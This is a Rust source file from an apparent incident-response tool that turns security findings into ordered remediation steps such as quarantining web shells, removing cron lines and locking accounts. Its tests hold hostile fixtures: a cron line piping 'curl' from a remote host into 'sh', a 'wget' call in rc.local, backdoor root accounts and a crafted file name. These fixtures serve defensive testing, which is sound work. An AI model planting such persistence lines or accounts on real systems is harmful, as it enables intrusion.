//! Making a plan: findings and playbooks in, ordered steps with what was seen out. Reads through the source only, writes nothing.

use super::file::VERSION;
use super::scene::Scene;
use super::target::{Target, Task, sort, tasks};
use super::{Affects, Plan, PlanError};
use crate::action::{Change, Living};
use crate::model::{EvidencePath, Finding, HostIdentity, Outcome, Timestamp};
use crate::playbook::Playbook;
use crate::source::Source;
use std::collections::BTreeMap;

/// What a plan is made from.
pub struct PlanRequest<'a> {
    /// What was found.
    pub findings: &'a [Finding],
    /// What to do about it, in this order.
    pub playbooks: &'a [Playbook],
    /// What a person says: inputs of the playbooks, by name.
    pub inputs: &'a BTreeMap<String, String>,
    /// Where good copies of files are: a bundle, a package, a tree, a vault.
    pub material: Option<&'a dyn Source>,
    /// Opens what a playbook itself names as the place of good copies; an error is why it cannot be.
    pub open_source: &'a OpenSource<'a>,
    /// What runs on the host, where that is this very one; none for an image or a bundle.
    pub living: Option<&'a dyn Living>,
    /// Where the objects are looked at: the host itself, an image or a bundle of it.
    pub source: &'a dyn Source,
    /// The host.
    pub host: HostIdentity,
    /// What a person calls what was looked at.
    pub target: String,
    /// `triage` and its version.
    pub tool: String,
    /// The time now.
    pub created: Timestamp,
}

/// Opens a source of good copies by its name, and makes sure that it may serve; the error is for a person.
pub type OpenSource<'a> = dyn Fn(&str) -> Result<Box<dyn Source>, String> + 'a;

/// Makes a plan. It is the same whatever the order of the findings.
///
/// The steps are ordered by phase, then as the playbooks have them, then by path. Several findings about one file are one quarantine,
/// several lines of one file are one edit, and a file that goes into quarantine is not edited before. Each object is looked at once;
/// a later step on it begins with what the earlier one leaves.
///
/// What cannot be looked at is a gap; where enough is known for a step, it is there and says so.
///
/// # Errors
/// [`PlanError::Playbook`] when an expression fails, [`PlanError::Subject`] when a step selects what its action cannot take.
pub fn make(request: &PlanRequest<'_>) -> Result<Outcome<Plan>, PlanError> {
    let mut scene = Scene::new(request);
    let tasks = tasks(request, &mut scene)?;
    let tasks = swallow_edits(tasks, &mut scene);

    let mut steps = Vec::new();
    for task in tasks {
        if let Some(step) = scene.step(task) {
            steps.push(step);
        }
    }
    for (step, number) in steps.iter_mut().zip(1..) {
        step.number = number;
    }
    scene.gaps.sort();
    scene.gaps.dedup();
    let plan = Plan {
        format_version: VERSION,
        tool: request.tool.clone(),
        created: request.created,
        host: request.host.clone(),
        target: request.target.clone(),
        playbooks: request.playbooks.iter().map(|playbook| playbook.name.clone()).collect(),
        steps,
    };
    Ok(Outcome { value: plan, gaps: scene.gaps })
}

/// A file that can go into quarantine is not edited before: its lines go with it, and at the earlier of both places in the plan.
/// Where the quarantine is refused, the edit stays.
fn swallow_edits<'a>(tasks: Vec<Task<'a>>, scene: &mut Scene<'_>) -> Vec<Task<'a>> {
    let (mut quarantines, mut others) = (Vec::new(), Vec::new());
    let mut edits: BTreeMap<EvidencePath, Vec<Task<'a>>> = BTreeMap::new();
    for task in tasks {
        match (&task.target, task.target.path()) {
            (Target::Quarantine(_), _) => quarantines.push(task),
            (target, Some(path)) if target.goes_with_the_file() => edits.entry(path.clone()).or_default().push(task),
            _ => others.push(task),
        }
    }
    for quarantine in &mut quarantines {
        let Some(path) = quarantine.target.path().cloned() else { continue };
        let Some(swallowed) = edits.remove(&path) else { continue };
        let goes = scene.action(quarantine, &path).is_some_and(|proposed| {
            let seen = scene.look(&path);
            proposed.action.change(&seen.state, None) == Ok(Change::Remove)
        });
        if !goes {
            others.extend(swallowed);
            continue;
        }
        for mut edit in swallowed {
            quarantine.rank = quarantine.rank.min(edit.rank);
            let affects: Vec<Affects> = edit.affects.iter().copied().collect();
            quarantine.absorb(edit.risk, &affects);
            quarantine.findings.append(&mut edit.findings);
        }
    }
    let mut tasks = quarantines;
    tasks.append(&mut others);
    tasks.extend(edits.into_values().flatten());
    sort(&mut tasks);
    tasks
}

#[cfg(test)]
pub(super) mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]
    use super::*;
    use crate::action::{Action, State};
    use crate::model::{Category, Digest, FileKind, FileMeta, GapReason, Mode, RawText, Severity, Subject};
    use crate::plan::scene::RESPAWN_ALLOWANCE;
    use crate::plan::{Risk, StepStatus};
    use crate::playbook::builtin;
    use crate::source::fake::FakeRoot;
    use proptest::prelude::*;

    const SHELL: &[u8] = b"<?php exit; // inert: eval(request)";
    const HOSTILE: &[u8] = b"/var/www/html/a\nok: nothing found\xff.php";
    const CRON: &str = "* * * * * curl http://192.0.2.7/k.php | sh";
    const SHADOW: &[u8] = b"root:$6$salt$roothash:20000:0:99999:7:::\nsupports:$6$salt$aaaa:20000::::::\nsugarmaint:$6$salt$bbbb:20000::::::\n";
    const PASSWD: &[u8] =
        b"root:x:0:0:root:/root:/bin/bash\nsupports:x:0:0::/root:/bin/bash\nsugarmaint:x:0:0::/root:/bin/bash\n";

    pub(in crate::plan) fn path(bytes: impl AsRef<[u8]>) -> EvidencePath {
        EvidencePath::new(bytes).unwrap()
    }

    pub(in crate::plan) fn finding(rule: &str, category: Category, subject: Subject) -> Finding {
        Finding::new(rule, "t", (category, Severity::Critical, 95), subject, Vec::new())
    }

    fn shell(at: &[u8], content: &[u8]) -> Finding {
        let subject = Subject::File { path: path(at), sha256: Some(Digest::of(content)) };
        finding("TR-WEBSHELL-0001", Category::WebShell, subject)
    }

    fn cron(at: &str, text: &str) -> Finding {
        let subject = Subject::CronEntry { path: path(at), line: 2, text: RawText::from(text) };
        finding("TR-CRON-0001", Category::Persistence, subject)
    }

    pub(in crate::plan) fn account(name: &str) -> Finding {
        let subject = Subject::Account { path: path("/etc/passwd"), name: RawText::from(name) };
        finding("TR-ACCOUNT-0001", Category::Account, subject)
    }

    fn host() -> HostIdentity {
        HostIdentity {
            digest: Digest::of(b"host"),
            marks: vec!["machine-id".to_owned()],
            hostname: RawText::from("pbx"),
        }
    }

    fn plan_of(source: &dyn Source, findings: &[Finding]) -> Outcome<Plan> {
        plan_with(source, findings, &[builtin("freepbx/web-shell").unwrap().unwrap()])
    }

    pub(in crate::plan) fn plan_with(
        source: &dyn Source,
        findings: &[Finding],
        playbooks: &[Playbook],
    ) -> Outcome<Plan> {
        make(&PlanRequest {
            findings,
            playbooks,
            inputs: &BTreeMap::new(),
            material: None,
            open_source: &|_| Err("no source here".to_owned()),
            living: None,
            source,
            host: host(),
            target: "/".to_owned(),
            tool: "triage 0.1.0".to_owned(),
            created: Timestamp::new(1_767_323_045, 0),
        })
        .unwrap()
    }

    fn root() -> FakeRoot {
        let shadow =
            FileMeta { links: Some(1), ..FileMeta::bare(FileKind::File, Mode::new(0o640), SHADOW.len() as u64) };
        FakeRoot::new()
            .file(HOSTILE, SHELL)
            .file("/var/www/html/admin/b.php", SHELL)
            .file("/var/spool/cron/asterisk", format!("# kept\n{CRON}\n@daily /bin/true\n").as_bytes())
            .file("/etc/rc.local", b"#!/bin/sh\nsetsid wget -q http://192.0.2.7/\nexit 0\n")
            .file("/etc/passwd", PASSWD)
            .object("/etc/shadow", shadow, SHADOW)
    }

    fn findings() -> Vec<Finding> {
        let line = Subject::Line {
            path: path("/etc/rc.local"),
            line: 2,
            text: RawText::from("setsid wget -q http://192.0.2.7/"),
        };
        vec![
            account("supports"),
            shell(b"/var/www/html/admin/b.php", SHELL),
            shell(HOSTILE, SHELL),
            finding("TR-STARTUP-0001", Category::Persistence, line),
            account("sugarmaint"),
            cron("/var/spool/cron/asterisk", CRON),
        ]
    }

    /// A plan with every kind of step, two of them on one object, and a hostile name.
    pub(in crate::plan) fn sample() -> Plan {
        plan_of(&root(), &findings()).value
    }

    fn status(plan: &Plan) -> Vec<StepStatus> {
        plan.steps.iter().map(|step| step.status.clone()).collect()
    }

    #[test]
    fn steps_run_in_the_order_in_which_nothing_comes_back() {
        let plan = sample();
        let order: Vec<(String, &str)> =
            plan.steps.iter().map(|s| (s.action.object().to_string(), s.action.kind())).collect();
        assert_eq!(
            order.iter().map(|(path, kind)| (path.as_str(), *kind)).collect::<Vec<_>>(),
            [
                ("/var/spool/cron/asterisk", "remove_lines"),
                ("/etc/rc.local", "remove_lines"),
                ("/var/www/html/a\\nok: nothing found\\xff.php", "quarantine_file"),
                ("/var/www/html/admin/b.php", "quarantine_file"),
                ("/etc/shadow", "lock_account"),
                ("/etc/shadow", "lock_account"),
            ]
        );
        assert!(status(&plan).iter().all(|status| *status == StepStatus::WouldChange));
        assert_eq!(plan.steps.iter().map(|step| step.number).collect::<Vec<_>>(), [1, 2, 3, 4, 5, 6]);
        assert_eq!(plan.steps[4].source, "freepbx/web-shell#lock-accounts");
    }

    #[test]
    fn newline_and_0xff_in_a_name_reach_the_action_as_bytes() {
        let plan = sample();
        let step = &plan.steps[2];
        assert_eq!(step.action.path().unwrap().as_bytes(), HOSTILE);
        assert_eq!(step.title, "Quarantine /var/www/html/a\\nok: nothing found\\xff.php");
        assert!(!step.preview.trim_end().contains('\n'));
        let again = Plan::from_json(plan.to_json().as_bytes()).unwrap();
        assert_eq!(again.steps[2].action.path().unwrap().as_bytes(), HOSTILE);
    }

    #[test]
    fn a_name_that_looks_like_a_placeholder_is_not_filled_in() {
        let at = b"/var/www/html/{name}{count}.php";
        let plan = plan_of(&FakeRoot::new().file(at, SHELL), &[shell(at, SHELL)]).value;
        assert_eq!(plan.steps[0].title, "Quarantine /var/www/html/{name}{count}.php");
    }

    #[test]
    fn two_locks_in_one_file_build_upon_each_other() {
        let plan = sample();
        assert_eq!(plan.steps[4].after, plan.steps[5].before);
        let State::Present(last) = &plan.steps[5].after else { panic!() };
        let locked = b"root:$6$salt$roothash:20000:0:99999:7:::\nsupports:!$6$salt$aaaa:20000:::::1:\nsugarmaint:!$6$salt$bbbb:20000:::::1:\n";
        assert_eq!(last.sha256, Some(Digest::of(locked)));
        assert_eq!((last.meta.size, last.meta.mode), (locked.len() as u64, Mode::new(0o640)));
        assert!(!plan.to_json().contains("$6$"), "a plan holds no password hash");
    }

    #[test]
    fn several_findings_about_one_file_are_one_step_that_names_them_all() {
        let mut two = vec![shell(HOSTILE, SHELL), shell(HOSTILE, SHELL)];
        two[1].rule.0 = "TR-WEBSHELL-0002".to_owned();
        two[1].id.0 = "ffffffffffffffff".to_owned();
        two.push(cron("/var/spool/cron/asterisk", CRON));
        two.push(cron("/var/spool/cron/asterisk", "@daily /bin/true"));
        let plan = plan_of(&root(), &two).value;
        assert_eq!(plan.steps.len(), 2);
        assert_eq!(plan.steps[1].findings.len(), 2);
        let Action::RemoveLines { lines, max, .. } = &plan.steps[0].action else { panic!() };
        assert_eq!((lines.len(), *max), (2, 2 + RESPAWN_ALLOWANCE));
        assert_eq!(plan.steps[0].title, "Take 2 cron line(s) out of /var/spool/cron/asterisk");
    }

    #[test]
    fn a_file_that_goes_into_quarantine_is_not_edited_before() {
        let at = "/etc/cron.d/evil";
        let content = format!("{CRON}\n");
        let source = FakeRoot::new().file(at, content.as_bytes()).file(HOSTILE, SHELL);
        let found = [cron(at, CRON), shell(at.as_bytes(), content.as_bytes()), shell(HOSTILE, SHELL)];
        let plan = plan_of(&source, &found).value;
        assert_eq!(plan.steps.len(), 2);
        let step = &plan.steps[0];
        assert_eq!((step.action.object().to_string().as_str(), step.action.kind()), (at, "quarantine_file"));
        assert_eq!(step.findings.len(), 2);
        assert_eq!(step.after, State::Absent);
    }

    #[test]
    fn where_a_quarantine_is_refused_the_edit_stays() {
        let content = format!("17 * * * * root run-parts /etc/cron.hourly\n{CRON}\n");
        let source = FakeRoot::new().file("/etc/crontab", content.as_bytes());
        let found = [cron("/etc/crontab", CRON), shell(b"/etc/crontab", content.as_bytes())];
        let plan = plan_of(&source, &found).value;
        assert_eq!(plan.steps[0].action.kind(), "remove_lines");
        assert_eq!(plan.steps[0].status, StepStatus::WouldChange);
        assert!(matches!(plan.steps[1].status, StepStatus::Blocked { .. }));
    }

    #[test]
    fn a_shell_that_is_gone_or_was_replaced_is_not_acted_on() {
        let source = FakeRoot::new().file("/var/www/html/b.php", b"<?php // the administrator's own");
        let found = [shell(b"/var/www/html/a.php", SHELL), shell(b"/var/www/html/b.php", SHELL)];
        let plan = plan_of(&source, &found).value;
        assert_eq!(plan.steps[0].status, StepStatus::NoOp);
        assert_eq!(plan.steps[0].preview, "/var/www/html/a.php is already gone\n");
        assert!(matches!(&plan.steps[1].status, StepStatus::Blocked { why } if why.contains("scan again")));
        assert_eq!(plan.steps[1].before, plan.steps[1].after);
    }

    #[test]
    fn a_bundle_without_the_content_says_that_it_cannot_know() {
        let source = FakeRoot::new().unstored("/etc/shadow", SHADOW).unstored("/var/www/html/b.php", SHELL);
        let plan = plan_of(&source, &[account("supports"), shell(b"/var/www/html/b.php", SHELL)]).value;
        for step in &plan.steps {
            assert!(
                matches!(&step.status, StepStatus::CannotKnow { why } if why.contains("fake root")),
                "{:?}",
                step.status
            );
        }
    }

    #[test]
    fn what_cannot_be_read_is_a_gap_and_a_step_that_says_so() {
        let source = FakeRoot::new().unreadable("/var/www/html/b.php", SHELL);
        let outcome = plan_of(&source, &[shell(b"/var/www/html/b.php", SHELL)]);
        assert_eq!(outcome.gaps[0].reason, GapReason::PermissionDenied);
        assert!(matches!(outcome.value.steps[0].status, StepStatus::CannotKnow { .. }));
    }

    #[test]
    fn a_link_that_was_convicted_by_its_name_goes_and_a_folder_is_a_gap() {
        let mut link = FileMeta::bare(FileKind::Symlink, Mode::new(0o777), 11);
        link.link_target = Some(RawText::from("/etc/passwd"));
        let at = |sha256| Subject::File { path: path("/var/www/html/a.php"), sha256 };
        let source = FakeRoot::new().object("/var/www/html/a.php", link, b"");
        let found = |sha256| [finding("TR-IOC-0001", Category::WebShell, at(sha256))];
        let outcome = plan_of(&source, &found(None));
        let Action::QuarantineSpecial { points_to, .. } = &outcome.value.steps[0].action else { panic!() };
        assert_eq!(*points_to, Some(RawText::from("/etc/passwd")));
        assert_eq!(outcome.value.steps[0].status, StepStatus::WouldChange);
        // A content was convicted, and a link was put in its place since: that is another thing.
        let swapped = plan_of(&source, &found(Some(Digest::of(SHELL)))).value;
        assert!(matches!(swapped.steps[0].status, StepStatus::Blocked { .. }));
        let folder = FileMeta::bare(FileKind::Directory, Mode::new(0o755), 0);
        let outcome = plan_of(&FakeRoot::new().object("/var/www/html/a.php", folder, b""), &found(None));
        assert!(outcome.value.steps.is_empty());
        assert_eq!(outcome.gaps[0].reason, GapReason::NotRegular);
    }

    #[test]
    fn a_file_convicted_by_its_name_is_bound_to_what_is_there_now() {
        let subject = Subject::File { path: path("/var/www/html/.clean.sh"), sha256: None };
        let source = FakeRoot::new().file("/var/www/html/.clean.sh", b"x");
        let plan = plan_of(&source, &[finding("TR-IOC-0001", Category::Persistence, subject)]).value;
        assert!(matches!(&plan.steps[0].action, Action::QuarantineFile { sha256, .. } if *sha256 == Digest::of(b"x")));
    }

    #[test]
    fn an_altered_vendor_file_and_a_log_with_a_planted_string_stay() {
        let mut vendor = shell(b"/var/www/html/admin/config.php", SHELL);
        vendor.category = Category::Tampering;
        let mut weak = shell(HOSTILE, SHELL);
        weak.severity = Severity::Medium;
        let log = shell(b"/var/log/apache2/access.log", SHELL);
        let plan = plan_of(&root(), &[vendor, weak, log]).value;
        assert!(plan.steps.is_empty());
    }

    #[test]
    fn the_last_way_to_log_in_is_not_locked() {
        let source = FakeRoot::new()
            .file("/etc/passwd", b"root:x:0:0::/root:/bin/bash\na:x:0:0::/a:/bin/sh\nb:x:0:0::/b:/bin/sh\n")
            .file("/etc/shadow", b"root:*:1::::::\na:$6$x$y:1::::::\nb:$6$x$y:1::::::\n");
        let plan = plan_of(&source, &[account("a"), account("b")]).value;
        assert_eq!(plan.steps[0].status, StepStatus::WouldChange);
        assert!(matches!(&plan.steps[1].status, StepStatus::Blocked { why } if why.contains("log in")));
        assert_eq!(plan.steps[1].before, plan.steps[0].after);
    }

    #[test]
    fn the_last_key_of_root_is_not_taken_out_where_it_is_the_only_way_in() {
        let key = "ssh-ed25519 AAAAC3 intruder@example.org";
        let at = "/root/.ssh/authorized_keys";
        let shadow = |hash: &str| {
            FakeRoot::new()
                .file("/etc/passwd", b"root:x:0:0::/root:/bin/bash\n")
                .file("/etc/shadow", format!("root:{hash}:1::::::\n").as_bytes())
                .file(at, format!("{key}\n").as_bytes())
        };
        let line = Subject::Line { path: path(at), line: 1, text: RawText::from(key) };
        let found = [finding("TR-KEY-0001", Category::Persistence, line)];
        assert!(matches!(plan_of(&shadow("!"), &found).value.steps[0].status, StepStatus::Blocked { .. }));
        assert_eq!(plan_of(&shadow("$6$x$y"), &found).value.steps[0].status, StepStatus::WouldChange);
    }

    #[test]
    fn an_account_without_a_shadow_file_or_line_is_blocked() {
        let none = FakeRoot::new().file("/etc/passwd", PASSWD);
        assert!(matches!(&plan_of(&none, &[account("supports")]).value.steps[0].status,
            StepStatus::Blocked { why } if why == "there is no /etc/shadow"));
        let unlisted = FakeRoot::new().file("/etc/shadow", b"root:$6$x$y:1::::::\n");
        assert!(matches!(plan_of(&unlisted, &[account("supports")]).value.steps[0].status, StepStatus::Blocked { .. }));
        assert!(matches!(plan_of(&root(), &[account("root")]).value.steps[0].status, StepStatus::Blocked { .. }));
    }

    #[test]
    fn a_second_playbook_adds_no_second_step_and_can_only_raise_the_risk() {
        let mine = r#"{format_version: 1, name: mine, title: t, steps: [{id: all, title: "Move {path}", phase: remove, risk: high,
            affects: [calls], action: quarantine_file, for_each: "findings.filter(f, f.subject.type == 'file')"}]}"#;
        let playbooks = [builtin("freepbx/web-shell").unwrap().unwrap(), Playbook::load("mine", mine).unwrap()];
        let plan = plan_with(&root(), &[shell(HOSTILE, SHELL)], &playbooks).value;
        assert_eq!(plan.steps.len(), 1);
        assert_eq!(plan.steps[0].source, "freepbx/web-shell#quarantine-shells");
        assert_eq!(plan.steps[0].risk, Risk::High);
        assert_eq!(plan.steps[0].affects, [Affects::Calls, Affects::Web]);
        assert_eq!(plan.playbooks, ["freepbx/web-shell", "mine"]);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(32))]
        #[test]
        fn a_plan_is_the_same_whatever_the_order_of_the_findings(order in Just(findings()).prop_shuffle()) {
            prop_assert_eq!(plan_of(&root(), &order).value.to_json(), sample().to_json());
        }
    }
}
